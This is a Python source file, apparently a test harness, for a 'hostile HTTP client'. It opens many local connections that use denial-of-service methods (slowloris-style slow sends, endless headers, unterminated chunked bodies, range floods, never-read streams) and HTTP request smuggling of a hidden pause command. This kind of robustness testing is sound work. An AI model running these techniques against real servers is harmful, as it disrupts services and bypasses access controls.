"""A hostile HTTP client: many connections at once, each with one of the ways to waste a server's resources."""

import random
import selectors
import socket
import time

HIDDEN = b"POST /api/v1/pause HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n"
HOST = b"Host: localhost\r\n"


def manners(token):
    """Returns for each name: the bytes to send first, the bytes to repeat (None: shut the sending side down), and the
    seconds between repetitions."""
    bearer = b"Authorization: Bearer " + token.encode() + b"\r\n"
    length = f"Content-Length: {len(HIDDEN)}\r\n\r\n".encode() + HIDDEN
    return {
        "endless header": (b"GET / HTTP/1.1\r\n" + HOST, b"a:b\r\n" * 500, 0.0),
        "slow bytes": (b"", b"G", 0.3),
        "smuggling after 414": (b"GET /" + b"x" * 9000 + b" HTTP/1.1\r\n" + HOST + length, b"", 0.1),
        "smuggling after 416": (b"GET /none HTTP/1.1\r\nRange: bytes=9-1\r\n" + HOST + length, b"", 0.1),
        "body on GET": (b"GET /healthz HTTP/1.1\r\n" + HOST + length, b"", 0.1),
        "4000 ranges": (b"GET /snapshot.png HTTP/1.1\r\n" + HOST + bearer + b"Range: bytes=" + b"0-," * 4000 + b"0-\r\n\r\n",
                        b"", 0.5),
        "chunked without end": (b"POST /api/v1 HTTP/1.1\r\n" + HOST + b"Transfer-Encoding: chunked\r\n\r\n",
                                b"1000\r\n" + b" " * 4096 + b"\r\n", 0.0),
        "compressed body": (b"POST /api/v1 HTTP/1.1\r\n" + HOST + b"Content-Encoding: gzip\r\nContent-Length: 99999999\r\n\r\n",
                            b"\0" * 4096, 0.0),
        "idle": (b"", b"", 1.0),
        "half-closed": (b"GET /healthz HTTP/1.1\r\n" + HOST + b"\r\n", None, 0.1),
        "never reads": (b"GET /stream.mjpeg HTTP/1.1\r\n" + HOST + bearer + b"\r\n", b"", 1.0),
        "pipelined": (b"GET /healthz HTTP/1.1\r\n" + HOST + b"\r\n", b"GET /healthz HTTP/1.1\r\n" + HOST + b"\r\n", 0.0),
    }


class Connection:
    def __init__(self, port, name, manner):
        self.name, (self.first, self.more, self.pause) = name, manner
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.connect_ex(("127.0.0.1", port))
        self.next, self.pending, self.half_closed, self.sent = 0.0, self.first, False, 0

    def send(self, now):
        """Sends what is due. Raises OSError if the server has closed."""
        if self.pending:
            count = self.socket.send(self.pending)
            self.sent += count
            self.pending = self.pending[count:]
        elif self.more is None and not self.half_closed:
            self.socket.shutdown(socket.SHUT_WR)
            self.half_closed = True
        elif self.more and now >= self.next:
            self.pending, self.next = self.more, now + self.pause


class Attack:
    """Keeps a number of connections busy; a connection that the server closes is replaced."""

    def __init__(self, port, token, connections=200, seed=1):
        self.port, self.manners, self.count = port, manners(token), connections
        self.chance, self.opened, self.closed, self.sent = random.Random(seed), 0, 0, 0
        self.statuses, self.connections = {}, []
        self.selector = selectors.DefaultSelector()

    def open_one(self):
        names = list(self.manners)
        name = names[self.opened % len(names)]
        one = Connection(self.port, name, self.manners[name])
        self.opened += 1
        self.connections.append(one)
        self.selector.register(one.socket, selectors.EVENT_READ, one)

    def drop(self, one):
        self.selector.unregister(one.socket)
        one.socket.close()
        self.connections.remove(one)
        self.closed += 1
        self.sent += one.sent

    def read(self, one):
        if one.name == "never reads" and self.chance.random() > 0.05:
            return
        data = one.socket.recv(65536)
        if not data:
            raise ConnectionError
        if data.startswith(b"HTTP/1.1 "):
            status = int(data[9:12])
            self.statuses[status] = self.statuses.get(status, 0) + 1

    def run(self, seconds):
        """Attacks for some seconds; at most 20,000 writes per second, so that the client does not take the processor."""
        end = time.monotonic() + seconds
        while (now := time.monotonic()) < end:
            for _ in range(min(20, self.count - len(self.connections))):
                self.open_one()
            for one in list(self.connections):
                try:
                    one.send(now)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    self.drop(one)
            for key, _ in self.selector.select(0):
                if key.data not in self.connections:
                    continue
                try:
                    self.read(key.data)
                except BlockingIOError:
                    pass
                except OSError:
                    self.drop(key.data)
            time.sleep(0.01)

    def close(self):
        for one in list(self.connections):
            self.drop(one)
        self.selector.close()
